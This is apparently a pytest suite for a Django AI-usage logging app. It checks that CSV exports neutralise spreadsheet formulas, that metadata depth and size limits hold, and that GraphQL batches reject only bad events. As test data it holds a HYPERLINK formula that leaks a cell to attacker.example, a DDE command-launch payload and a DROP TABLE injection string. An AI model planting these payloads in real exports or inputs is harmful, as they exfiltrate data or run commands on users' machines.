"""Hostile values: CSV exports that a spreadsheet cannot run, metadata bounded in depth and size on every path (and
rows stored deeper than that still readable everywhere), and recordUsage batches that keep their good events."""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analytics.csv_safety import safe_cell
from tests.helpers.fake_langsmith import API_KEY, FakeLangSmith
from usage import periods
from usage.langsmith import forget_status
from usage.langsmith_import import import_project
from usage.models import AIUsageLog
from usage.recording import record_usage
from usage.tracker import AIUsageTracker, InvalidUsage

HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"x")'
DDE = "+cmd|' /C calc'!A0"
MUTATION = "mutation($events: [UsageEventInput!]!) { recordUsage(events: $events) { index outcome field reason } }"
LOG_TABLE = AIUsageLog._meta.db_table


def nested(depth: int) -> dict[str, Any]:
    """{"a": {"a": ... 1}} with `depth` objects, built without recursion."""
    value: Any = 1
    for _ in range(depth):
        value = {"a": value}
    return value


def nested_text(depth: int) -> str:
    return '{"a": ' * depth + "1" + "}" * depth


def call(user: Any, **fields: Any) -> dict[str, Any]:
    return {"user": user, "feature": "chat", "provider": "acme", "model": "acme-1", "input_tokens": 1000,
            "output_tokens": 500, **fields}  # fmt: skip


def event(**fields: Any) -> dict[str, Any]:
    return {"feature": "chat", "provider": "acme", "model": "acme-1", "inputTokens": 1000, "outputTokens": 500,
            **fields}  # fmt: skip


def post_events(client: Client, events: list[dict[str, Any]]) -> Any:
    body = {"query": MUTATION, "variables": {"events": events}}
    return client.post("/graphql/", body, content_type="application/json")


@pytest.fixture
def staff(db: None, make_price: Any) -> Any:
    make_price()
    return get_user_model().objects.create_superuser("root", "root@example.com", "pw")


@pytest.fixture
def staff_client(staff: Any) -> Client:
    client = Client()
    client.force_login(staff)
    return client


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode())))


# --- CSV exports ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
        (HYPERLINK, "'" + HYPERLINK), ("a=b", "a=b"), ("", ""), ("'=x", "'=x"), (" =x", " =x"),
        (-5, -5), (Decimal("-0.5"), Decimal("-0.5")), (42, 42), (None, None),
    ],
)  # fmt: skip
def test_safe_cell_quotes_formula_text_only(value: Any, cell: Any) -> None:
    assert safe_cell(value) == cell


def test_log_export_neutralises_formulas_and_keeps_numbers_plain(staff: Any, staff_client: Client) -> None:
    attacker = get_user_model().objects.create_user("=1+2", "x@example.com", "pw")
    at = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)
    log = record_usage(**call(attacker, feature=HYPERLINK, session_id=DDE, event_id="@evil", occurred_at=at,
                              latency_ms=250, status="error", error_message="\t-2+3")).log  # fmt: skip
    rows = csv_rows(b"".join(staff_client.get("/admin/usage/aiusagelog/export/").streaming_content))
    assert rows[1] == [
        str(log.pk), "2026-03-02T09:30:00+00:00", "'=1+2", "'" + HYPERLINK, "acme", "acme-1", "'" + DDE, "error",
        "1000", "0", "0", "500", "0", "0.006", "250", "'@evil", "'\t-2+3",
    ]  # fmt: skip
    assert len(rows) == 2
    # The admin action "Export selected logs as CSV" writes through the same helper.
    selected = staff_client.post("/admin/usage/aiusagelog/", {"action": "export_csv", "_selected_action": [log.pk]})
    assert csv_rows(b"".join(selected.streaming_content))[1] == rows[1]


def test_user_spend_export_neutralises_formulas_and_keeps_numbers_plain(staff: Any, staff_client: Client) -> None:
    attacker = get_user_model().objects.create_user("=1+2", "-@attacker.example", "pw")
    record_usage(**call(attacker))
    response = staff_client.get("/admin/ai-analytics/users/?format=csv&q=attacker")
    assert csv_rows(response.content) == [
        ["user_id", "username", "email", "day", "daily_spend", "daily_limit", "daily_percent", "monthly_spend",
         "monthly_limit", "monthly_percent", "status", "unpriced_calls_this_month"],
        [str(attacker.pk), "'=1+2", "'-@attacker.example", periods.today().isoformat(), "0.006", "10", "0.06",
         "0.006", "100", "0.01", "OK", "0"],
    ]  # fmt: skip


# --- metadata bounds on every write path ------------------------------------------------------------------

DEPTH_REFUSED = "request_meta: is nested more than 20 levels deep; the most allowed is 20"


def looped() -> dict[str, Any]:
    value: dict[str, Any] = {}
    value["self"] = value
    return value


@pytest.mark.parametrize("meta", [nested(21), nested(3_000), nested(100_000), looped(), {"a": [nested(20)]}])
def test_record_usage_refuses_metadata_nested_too_deep(staff: Any, meta: dict[str, Any]) -> None:
    with pytest.raises(InvalidUsage) as refused:
        record_usage(**call(staff, request_meta=meta))
    assert (refused.value.field, str(refused.value)) == ("request_meta", DEPTH_REFUSED)
    assert AIUsageLog.objects.count() == 0


def test_metadata_at_the_depth_limit_is_stored_as_given(staff: Any) -> None:
    log = record_usage(**call(staff, request_meta=nested(20), response_meta={"a": [[1, {"b": None}]]})).log
    stored = AIUsageLog.objects.get(pk=log.pk)
    assert (stored.request_meta, stored.response_meta) == (nested(20), {"a": [[1, {"b": None}]]})


def test_the_tracker_refuses_deep_metadata_on_entry_and_in_set_metadata(staff: Any) -> None:
    identity = {"user": staff, "feature": "chat", "provider": "acme", "model": "acme-1"}
    with pytest.raises(InvalidUsage) as on_entry:
        AIUsageTracker.track_ai_request(**identity, request_meta=nested(100_000)).__enter__()
    assert str(on_entry.value) == DEPTH_REFUSED
    with AIUsageTracker.track_ai_request(**identity) as tracker:
        tracker.set_tokens(input_tokens=10, output_tokens=1)
        with pytest.raises(InvalidUsage) as in_block:
            tracker.set_metadata(response_meta=nested(50))
        tracker.set_metadata(response_meta={"ok": True})
    assert str(in_block.value) == "response_meta: is nested more than 20 levels deep; the most allowed is 20"
    assert list(AIUsageLog.objects.values_list("response_meta", flat=True)) == [{"ok": True}]


def test_metadata_of_more_values_than_its_byte_limit_is_refused_before_encoding(staff: Any) -> None:
    with pytest.raises(InvalidUsage) as refused:
        record_usage(**call(staff, request_meta={"ids": [0] * 70_000}))
    assert str(refused.value) == (
        "request_meta: holds more than 65536 values, over 65536 bytes as JSON; the most allowed is 65536 bytes"
    )
    assert AIUsageLog.objects.count() == 0


def test_numbers_are_stored_exactly_or_refused(staff: Any) -> None:
    exact = {"big": 1e20, "tenth": 0.1, "tiny": 1.5e-7, "huge_int": 2**70, "edge": float(2**53)}
    log = record_usage(**call(staff, request_meta=exact)).log
    assert log is not None
    assert AIUsageLog.objects.get(pk=log.pk).request_meta == exact
    with pytest.raises(InvalidUsage) as refused:  # jsonb would hand back 56884896943897260
        record_usage(**call(staff, request_meta={"": 5.688489694389726e16}))
    assert str(refused.value) == (
        "request_meta: 5.688489694389726e+16 cannot be stored exactly as a JSON number; send it as a string"
    )
    assert AIUsageLog.objects.count() == 1


def test_the_depth_limit_is_a_setting(staff: Any, settings: Any) -> None:
    settings.AI_MAX_METADATA_DEPTH = 3
    record_usage(**call(staff, request_meta=nested(3)))
    with pytest.raises(InvalidUsage) as refused:
        record_usage(**call(staff, request_meta=nested(4)))
    assert str(refused.value) == "request_meta: is nested more than 3 levels deep; the most allowed is 3"
    assert AIUsageLog.objects.count() == 1


def test_record_usage_mutation_rejects_deep_metadata_per_event_and_keeps_the_rest(
    staff: Any, staff_client: Client
) -> None:
    events = [event(), event(requestMeta=nested(21)), event(), event(responseMeta={"x": [nested(400)]})]
    answer = post_events(staff_client, events).json()
    assert answer["data"]["recordUsage"] == [
        {"index": 0, "outcome": "RECORDED", "field": None, "reason": None},
        {"index": 1, "outcome": "REJECTED", "field": "requestMeta",
         "reason": "requestMeta: is nested more than 20 levels deep; the most allowed is 20"},
        {"index": 2, "outcome": "RECORDED", "field": None, "reason": None},
        {"index": 3, "outcome": "REJECTED", "field": "responseMeta",
         "reason": "responseMeta: is nested more than 20 levels deep; the most allowed is 20"},
    ]  # fmt: skip
    assert AIUsageLog.objects.count() == 2


def test_a_request_body_nested_beyond_what_json_can_read_is_a_400(staff: Any, staff_client: Client) -> None:
    body = json.dumps({"query": MUTATION, "variables": {"events": [event(), event(requestMeta="DEEP")]}})
    response = staff_client.post(
        "/graphql/", body.replace('"DEEP"', nested_text(100_000)), content_type="application/json"
    )
    assert (response.status_code, response.content) == (
        400, b'{"data": null, "errors": [{"message": "The JSON is nested more than 512 levels deep"}]}'
    )  # fmt: skip
    assert AIUsageLog.objects.count() == 0


@pytest.fixture
def langsmith(settings: Any) -> Iterator[FakeLangSmith]:
    fake = FakeLangSmith()
    settings.LANGSMITH_API_KEY = API_KEY
    settings.LANGSMITH_ENDPOINT = fake.url
    settings.LANGSMITH_TRACING = False
    settings.LANGSMITH_TIMEOUT_SECONDS = 1
    forget_status()
    yield fake
    forget_status()
    fake.stop()


def test_langsmith_import_skips_and_counts_runs_whose_metadata_is_refused(langsmith: FakeLangSmith, staff: Any) -> None:
    start = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    base = {"ls_provider": "acme", "ls_model_name": "acme-1"}
    for minute, extra in enumerate([{}, {"feature": nested(300)}, {"blob": list(range(70_000))}]):
        langsmith.add_run("team-app", start_time=(start + timedelta(minutes=minute)).isoformat(),
                          end_time=(start + timedelta(minutes=minute, seconds=1)).isoformat(),
                          prompt_tokens=1000, completion_tokens=500,
                          extra={"metadata": {**base, **extra}})  # fmt: skip
    report = import_project("team-app")
    assert (report.fetched, report.recorded, report.refused_metadata, report.rejected) == (3, 1, 2, 0)
    assert list(AIUsageLog.objects.values_list("total_cost", flat=True)) == [Decimal("0.006")]


# --- rows stored deeper than the limit still read everywhere ----------------------------------------------

NOTE = {"not_shown": "stored metadata nested more than 20 levels deep"}


def store_directly(log_id: int, request_meta: str) -> None:
    """Write the metadata straight into the row, past every check (SQLite's JSON_VALID stops at 1,000 levels)."""
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute("PRAGMA ignore_check_constraints = ON")
        try:
            cursor.execute(f"UPDATE {LOG_TABLE} SET request_meta = %s WHERE id = %s", [request_meta, log_id])
        finally:
            if connection.vendor == "sqlite":
                cursor.execute("PRAGMA ignore_check_constraints = OFF")


@pytest.mark.parametrize("depth", [950, 5_000])
def test_pages_and_the_api_answer_for_a_row_stored_too_deep(staff: Any, staff_client: Client, depth: int) -> None:
    log = record_usage(**call(staff, occurred_at=datetime.now(UTC) - timedelta(minutes=5))).log
    store_directly(log.pk, nested_text(depth))
    assert AIUsageLog.objects.get(pk=log.pk).request_meta == NOTE
    for url in ["/admin/usage/aiusagelog/", "/admin/ai-analytics/", f"/admin/usage/aiusagelog/{log.pk}/change/"]:
        assert staff_client.get(url).status_code == 200, url
    page = staff_client.get(f"/admin/usage/aiusagelog/{log.pk}/change/").content.decode()
    assert "stored metadata nested more than 20 levels deep" in page
    export = csv_rows(b"".join(staff_client.get("/admin/usage/aiusagelog/export/").streaming_content))
    assert [row[0] for row in export] == ["id", str(log.pk)]
    query = """{ usageLogs(range: {period: ALL}) { totalCount items { id cost } }
                 costliestRequests(range: {period: ALL}) { id cost } }"""
    answer = staff_client.post("/graphql/", {"query": query}, content_type="application/json").json()
    assert answer == {"data": {
        "usageLogs": {"totalCount": 1, "items": [{"id": str(log.pk), "cost": "0.006"}]},
        "costliestRequests": [{"id": str(log.pk), "cost": "0.006"}],
    }}  # fmt: skip


def test_a_stored_row_within_the_limit_reads_back_exactly(staff: Any) -> None:
    log = record_usage(**call(staff)).log
    store_directly(log.pk, json.dumps({"list": [[{"[": "{{{{"}]], **nested(18)}))
    assert AIUsageLog.objects.get(pk=log.pk).request_meta == {"list": [[{"[": "{{{{"}]], **nested(18)}


# --- batches keep their good events ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("occurred_at", "reason"),
    [
        ("2026-12-01T10:00:00+16:00", "occurredAt: has the UTC offset +16:00; offsets run from -14:00 to +14:00"),
        ("2026-12-01T10:00:00-15:00", "occurredAt: has the UTC offset -15:00; offsets run from -14:00 to +14:00"),
        ("2026-12-01T10:00:00+14:00:30", "occurredAt: has the UTC offset +14:00 and 30 s; offsets run from -14:00 "
                                         "to +14:00"),
        ("2026-12-01T10:00:00+24:00", "occurredAt: '2026-12-01T10:00:00+24:00' is not an ISO 8601 date and time"),
    ],
)  # fmt: skip
def test_an_offset_beyond_fourteen_hours_rejects_only_its_event(
    staff: Any, staff_client: Client, occurred_at: str, reason: str
) -> None:
    answer = post_events(staff_client, [event(), event(occurredAt=occurred_at), event()]).json()
    assert [(r["outcome"], r["field"], r["reason"]) for r in answer["data"]["recordUsage"]] == [
        ("RECORDED", None, None), ("REJECTED", "occurredAt", reason), ("RECORDED", None, None),
    ]  # fmt: skip
    assert AIUsageLog.objects.count() == 2


def test_an_instant_at_fourteen_hours_is_stored_as_its_utc_instant(staff: Any, staff_client: Client) -> None:
    answer = post_events(staff_client, [event(occurredAt="2026-12-01T10:00:00+14:00")]).json()
    assert answer["data"]["recordUsage"][0]["outcome"] == "RECORDED"
    stored = AIUsageLog.objects.get().occurred_at
    assert (stored, stored.utcoffset()) == (datetime(2026, 11, 30, 20, 0, tzinfo=UTC), timedelta(0))


def test_a_provider_that_lengthens_when_lowered_is_rejected_not_a_database_error(
    staff: Any, staff_client: Client
) -> None:
    answer = post_events(staff_client, [event(), event(provider="İ" * 64)]).json()
    assert [(r["outcome"], r["reason"]) for r in answer["data"]["recordUsage"]] == [
        ("RECORDED", None), ("REJECTED", "provider: is 128 characters long; the most allowed is 64"),
    ]  # fmt: skip


def test_a_count_of_more_digits_than_python_converts_rejects_only_its_event(staff: Any, staff_client: Client) -> None:
    answer = post_events(staff_client, [event(), event(inputTokens="9" * 5000)]).json()
    first, second = answer["data"]["recordUsage"]
    assert (first["outcome"], second["outcome"], second["field"]) == ("RECORDED", "REJECTED", "inputTokens")
    assert AIUsageLog.objects.count() == 1


# Every field of UsageEventInput, with values of the types the schema accepts (a wrong type is refused by GraphQL
# for the whole request, by design) but otherwise anything: odd strings, huge and negative numbers, odd ISO
# strings and offsets, deep and large JSON.
ODD_TEXT = ["", " ", "\x00", "a\x00b", "\ud800", "x\udfffy", "İ" * 64, "🙂" * 300, "x" * 5000, HYPERLINK, DDE,
            "\t=1", "\u202eevil", "null", "DROP TABLE usage_aiusagelog;--", "9" * 5000]  # fmt: skip
text = st.one_of(st.text(max_size=20), st.sampled_from(ODD_TEXT))
# JSON has no NaN or Infinity: a body holding them is refused whole with HTTP 400 (test_hostile_errors), not an event.
json_floats = st.floats(allow_nan=False, allow_infinity=False)
numbers = st.one_of(
    st.integers(min_value=-(2**80), max_value=2**80),
    st.sampled_from([0, 1, 10**15, 10**15 + 1, 2**31, 2**63, -1, "9" * 5000, "12", " 7 ", "²", "1e3"]),
    json_floats,
    st.booleans(),
    text,
    st.none(),
)
offsets = st.timedeltas(min_value=timedelta(hours=-23, minutes=-59), max_value=timedelta(hours=23, minutes=59))
iso_instants = st.builds(
    lambda moment, offset: moment.replace(tzinfo=UTC).astimezone(timezone(offset)).isoformat(),
    st.one_of(
        st.datetimes(min_value=datetime(1999, 12, 31), max_value=datetime(2100, 1, 1)),
        st.datetimes(min_value=datetime(1, 1, 2), max_value=datetime(9999, 12, 30)),
    ),
    offsets,
)
json_leaf = st.one_of(st.none(), st.booleans(), st.integers(min_value=-(2**70), max_value=2**70), json_floats,
                      text)  # fmt: skip
json_tree = st.recursive(json_leaf, lambda inner: st.one_of(st.lists(inner, max_size=3),
                         st.dictionaries(text, inner, max_size=3)), max_leaves=8)  # fmt: skip
metadata = st.one_of(
    st.none(),
    json_tree,
    st.integers(min_value=1, max_value=60).map(nested),
    st.just({"blob": "x" * 70_000}),
    st.just({"many": [0] * 70_000}),
)
EVENT_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "feature": text, "provider": st.one_of(st.just("acme"), text), "model": st.one_of(st.just("acme-1"), text),
    "userId": st.one_of(st.none(), st.sampled_from(["0", "-1", "99999999999999999999", "1.5", "", "²"]),
                        st.integers(min_value=-(2**70), max_value=2**70).map(str)),
    "inputTokens": numbers.filter(lambda v: v is not None), "outputTokens": numbers.filter(lambda v: v is not None),
    "cachedInputTokens": numbers.filter(lambda v: v is not None),
    "cacheWriteTokens": numbers.filter(lambda v: v is not None),
    "reasoningTokens": numbers.filter(lambda v: v is not None),
    "occurredAt": st.one_of(st.none(), iso_instants, text, st.sampled_from(
        ["2026-12-01T10:00:00+16:00", "2026-12-01T10:00:00-15:00", "2026-12-01T10:00:00", "2026-02-30T00:00:00Z",
         "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "2026-12-01T10:00:00.123456+05:30:15.5"])),
    "latencyMs": numbers, "status": st.one_of(st.sampled_from(["success", "error", "timeout"]), text),
    "errorMessage": text, "sessionId": st.one_of(st.none(), text),
    "eventId": st.one_of(st.none(), st.sampled_from(["ev-1", "ev-2"]), text),
    "requestMeta": metadata, "responseMeta": metadata,
}  # fmt: skip
INPUT_FIELDS = set(EVENT_FIELDS)


def hostile_event(data: st.DataObject) -> dict[str, Any]:
    """A good event with some of its fields replaced by hostile values."""
    chosen = data.draw(st.sets(st.sampled_from(sorted(EVENT_FIELDS)), min_size=1, max_size=3))
    return {**event(eventId=str(uuid.uuid4())), **{name: data.draw(EVENT_FIELDS[name]) for name in sorted(chosen)}}


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                   HealthCheck.too_slow])  # fmt: skip
@given(data=st.data())
def test_no_event_makes_record_usage_fail(staff: Any, staff_client: Client, data: st.DataObject) -> None:
    events = [hostile_event(data) for _ in range(data.draw(st.integers(min_value=1, max_value=4)))]
    before = AIUsageLog.objects.count()
    response = post_events(staff_client, events)
    assert response.status_code == 200, response.content
    answer = response.json()
    assert "errors" not in answer, answer
    results = answer["data"]["recordUsage"]
    assert [r["index"] for r in results] == list(range(len(events)))
    for result in results:
        assert result["outcome"] in ("RECORDED", "DUPLICATE", "REJECTED"), result
        if result["outcome"] == "REJECTED":
            assert result["field"] in INPUT_FIELDS and result["reason"].startswith(f"{result['field']}: "), result
    recorded = sum(r["outcome"] == "RECORDED" for r in results)
    assert AIUsageLog.objects.count() == before + recorded


def test_text_cells_are_quoted_so_a_semicolon_never_starts_a_formula_cell(staff: Any, staff_client: Client) -> None:
    log = record_usage(**call(staff, feature="x;=HYPERLINK(\"http://evil/?\"&A1)", session_id="a;@SUM(1)",
                              latency_ms=7)).log  # fmt: skip
    assert log is not None
    line = b"".join(staff_client.get("/admin/usage/aiusagelog/export/").streaming_content).decode().splitlines()[1]
    assert line.startswith(f'{log.pk},"')  # the id stays a plain number
    assert ',"x;=HYPERLINK(""http://evil/?""&A1)","acme","acme-1","a;@SUM(1)",' in line
    assert line.endswith(',1000,0,0,500,0,0.006,7,"",""')  # counts and the amount unquoted
